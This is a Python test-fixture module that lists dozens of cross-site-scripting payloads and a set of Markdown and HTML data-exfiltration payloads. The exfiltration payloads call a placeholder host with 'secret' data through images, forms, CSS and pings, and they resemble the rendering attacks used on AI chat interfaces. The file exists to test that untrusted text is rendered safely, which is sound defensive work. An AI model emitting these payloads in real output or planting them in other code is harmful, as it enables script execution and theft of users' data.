"""Texts that attack: what a hostile model, upstream, colleague or document may put where a text is shown.

`PWN` becomes a statement that tells on itself, `HOST` a host that the canary answers for. Each text is a part of its
own: none needs or swallows another, and each is short enough (200 characters) for a label or the reason of an error.
"""

from __future__ import annotations

XSS = (
    # Elements that run by themselves.
    "<script>PWN</script>",  # the plainest
    '<img src=x onerror="PWN">',  # a handler of something that fails to load
    "<svg onload=PWN>",  # … that loads
    "<svg/onload=PWN//",  # no space, no end
    "<ScRiPt sRc=data:text/javascript,PWN></sCrIpT>",  # any case, code in the address
    "<script type=module>import('data:text/javascript,PWN')</script>",  # a module
    "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",  # a document within
    "<iframe src=javascript:parent.PWN></iframe>",  # an address that is code
    "<object data=javascript:PWN></object><embed src=javascript:PWN>",  # plug-ins
    "<details open ontoggle=PWN><summary>x</summary></details>",  # an event without anybody
    "<input autofocus onfocus=PWN>",  # focus that is taken
    "<style>@keyframes x{}</style><xss style='animation-name:x' onanimationstart=PWN>",  # an unknown element, animated
    "<video><source onerror=PWN></video><audio src=x onerror=PWN>",  # media
    "<body onload=PWN><marquee onstart=PWN>x</marquee>",  # old elements with handlers
    "<base href='data:text/javascript,'><script src=PWN></script>",  # all addresses of the page, moved
    "<meta http-equiv=refresh content='0;url=javascript:PWN'>",  # a page that goes elsewhere
    "<form action=javascript:PWN><button autofocus>x</button></form>",  # a form whose target is code
    "<a href=javascript:PWN id=page>x</a><form id=strings><input name=id></form>",  # ids that our script looks up
    "<template shadowrootmode=open><img src=x onerror=PWN></template>",  # a declarative shadow root
    # Breaking out of where a text stands.
    "</title></script></textarea></style><script>PWN</script>",  # title, JSON in a script, text box
    "</option></select><img src=x onerror=PWN>",  # the list of models
    "</template></main></body></html><img src=x onerror=PWN>",  # the page itself
    '"><img src=x onerror=PWN>',  # a quoted attribute
    "' onmouseover='PWN' x='",  # an attribute in single quotes
    "` onmouseover=`PWN` x=`",  # … in backticks
    "<!--<script>PWN</script>--><!--><img src=x onerror=PWN>-->",  # comments, and the double-escaped state of a script
    "]]><script>PWN</script><![CDATA[<img src=x onerror=PWN>]]>",  # XML
    "<plaintext><xmp><img src=x onerror=PWN>",  # everything that follows becomes text
    # Template languages.
    "{{constructor.constructor('PWN')()}} ${PWN} #{PWN} <%= PWN %>",  # client-side templates
    "{% load i18n %}{{ request.user.password|safe }}{% include 'x' %} %(host)s %s",  # ours, and our placeholders
    # What a sanitiser lets through and the parser turns round (mutation XSS).
    '<svg></p><style><a id="</style><img src=x onerror=PWN>">',  # style in foreign content
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=PWN&gt;'>",  # DOMPurify 2.0
    '<noscript><p title="</noscript><img src=x onerror=PWN>">',  # with and without scripts
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=PWN>'>",  # nested
    "<svg><animate attributeName=href values=javascript:PWN /><a id=x><text y=20>x</text></a></svg>",  # animated
    "<svg><use href='data:image/svg+xml,<svg id=x onload=PWN />#x'></svg>",  # drawn from elsewhere
    # Written in other ways.
    "&lt;img src=x onerror=PWN&gt; &#60;script&#62;PWN&#60;/script&#62;",  # escaped already, for who unescapes twice
    "%3Cscript%3EPWN%3C/script%3E \\u003cscript\\u003ePWN\\u003c/script\\u003e",  # of addresses, of JSON
    "\uff1cscript\uff1ePWN\uff1c/script\uff1e \u2028<script>PWN</script>\u202e",  # full width, odd signs
    "<scr<script>ipt>PWN</scr</script>ipt>",  # for who deletes once
    # Markdown: links.
    "[x](javascript:PWN)",  # the plainest
    "[x](JaVaScRiPt:PWN) [x](\x01javascript:PWN) [x]( javascript:PWN)",  # case, a control character, a space
    "[x](&#106;avascript:PWN) [x](javascript&colon;PWN) [x](java&Tab;script:PWN)",  # entities
    "[x](<java\tscript:PWN>) [x](javascript\\:PWN) [x](%6Aavascript:PWN)",  # a tab, a backslash, percent signs
    "[x](data:text/html;base64,PHNjcmlwdD4) [x](data:text/html,<script>PWN</script>)",  # a page in the address
    "[x](vbscript:PWN) [x](blob:PWN) [x](file:///etc/passwd) [x](//HOST/x) [x](\\\\HOST\\x)",  # other schemes, none
    "[x][js1]\n\n[js1]: javascript:PWN",  # by reference
    "<javascript:PWN> <https://HOST/\"onmouseover='PWN'> <data:text/html,x>",  # in angle brackets
    '[x](https://HOST/ "\\" onmouseover=PWN x=\\"") [x](https://HOST/"onmouseover=PWN)',  # out of title and address
    "[<img src=x onerror=PWN>](https://HOST/) [![x](https://HOST/y)](javascript:PWN)",  # in a link's text
    "[x](https:javascript:PWN) [x](mailto:a@HOST?subject=<script>PWN</script>)",  # allowed schemes, odd rest
    # Markdown: images, as far as they run something.
    "![<img src=x onerror=PWN>](https://HOST/\"onmouseover=PWN 'x\" onerror=PWN')",  # out of each of its three parts
    "![x](javascript:PWN) ![x](data:image/svg+xml,<svg/onload=PWN>)",  # addresses that are code
    # Markdown: code, and what other renderers run.
    "```html\n<img src=x onerror=PWN><script>PWN</script>\n```",  # code that is coloured
    '```js"><img/src=x/onerror=PWN>\nlet x = "</code></pre><script>PWN</script>";\n```',  # the language's name
    "```constructor\nPWN\n```\n\n```__proto__\nPWN\n```\n\n[__proto__]: https://HOST/",  # names that objects have
    '```mermaid\ngraph TD; A-->B; click A href "javascript:PWN"; B["<img src=x onerror=PWN>"]\n```',  # diagrams
    '$$\\href{javascript:PWN}{x} \\htmlData{x="><img src=x onerror=PWN>"}$$',  # formulas
    # Markdown: blocks.
    "| <img src=x onerror=PWN> | [x](javascript:PWN) |\n|:-:|--:|\n| <svg onload=PWN> | `<script>PWN` |",  # in a table
    "> - # <img src=x onerror=PWN>\n>   `<script>PWN</script>` {onclick=PWN} {: style=x:y}",  # nested, and attributes
)

EXFILTRATION = (
    "![x](https://HOST/p.png?d=secret)",  # an image
    '![x](http://HOST/p.png "a title") ![x](<http://HOST/a b.png>)',  # with a title, with spaces
    "![x][one]\n\n[one]: https://HOST/p.png",  # by reference (CVE-2025-32711)
    '![two][] and ![three]\n\n[two]: https://HOST/p "t"\n[three]: <http://HOST/p>',  # collapsed and short references
    "[![x](https://HOST/p.png)](https://HOST/link)",  # within a link
    "![x](HTTPS://HOST/p) ![x](//HOST/p) ![x](https:HOST/p) ![x](\\\\HOST\\p)",  # other spellings of the address
    "![x](ftp://HOST/p) ![x](ws://HOST/p) ![x](http://user:secret@HOST/p)",  # other schemes, a user
    '<img src="https://HOST/p"><img srcset="https://HOST/p 1x"><picture><source srcset=//HOST/p></picture>',  # HTML
    '<div style="background:url(https://HOST/p)">x</div><table background=https://HOST/p>',  # a style, an old attribute
    "<style>@import url(https://HOST/p);@font-face{font-family:x;src:url(//HOST/f)}*{font-family:x}</style>",  # CSS
    "<svg><image href=https://HOST/p /><use href=https://HOST/p#x /><feImage href=https://HOST/p /></svg>",  # SVG
    "<link rel=stylesheet href=https://HOST/p><link rel=preload as=image href=https://HOST/p>",  # links that load
    "<link rel=dns-prefetch href=//HOST><link rel=preconnect href=https://HOST><link rel=prefetch href=//HOST>",  # DNS
    "<meta http-equiv=refresh content='0;url=https://HOST/p'><base href=https://HOST/>",  # the page goes, or its base
    "<form action=https://HOST/p method=post><input name=d value=secret><button autofocus>x</button></form>",  # a form
    "<iframe src=https://HOST/p></iframe><object data=https://HOST/p></object><embed src=https://HOST/p>",  # frames
    "<video src=https://HOST/p poster=https://HOST/q autoplay></video><audio src=https://HOST/p autoplay>",  # media
    "<video><track default src=https://HOST/p></video><input type=image src=https://HOST/p>",  # the smaller ones
    '<script src=https://HOST/p></script><script type=speculationrules>{"prefetch":[]}</script>',  # scripts
    "https://HOST/auto <https://HOST/angle> www.HOST <mail@canary.localhost>",  # addresses that become links
    "[x](https://HOST/?d=secret){target=_self ping=https://HOST/ping} <a href=x ping=https://HOST/ping>x</a>",  # pings
    "![x](https://HOST/p){width=1}![x](https://HOST/p =1x1)",  # dialects with sizes
    "| ![x](https://HOST/cell) |\n|---|\n| [![x][four]][four] |\n\n[four]: https://HOST/r",  # in a table, by reference
    '```vega-lite\n{"data": {"url": "https://HOST/p"}}\n```',  # diagrams that load (CVE-2026-70480)
    "```css\n@import url(https://HOST/p);\n```\n\n```svg\n<image href='https://HOST/p'/>\n```",  # code that is coloured
)


def armed(texts: tuple[str, ...], host: str) -> list[str]:
    """The texts, each with its own number in what it runs and in the name below `host` that it asks for."""
    return [
        text.replace("PWN", f"__pwn={number}").replace("HOST", f"n{number}.{host}") for number, text in enumerate(texts)
    ]
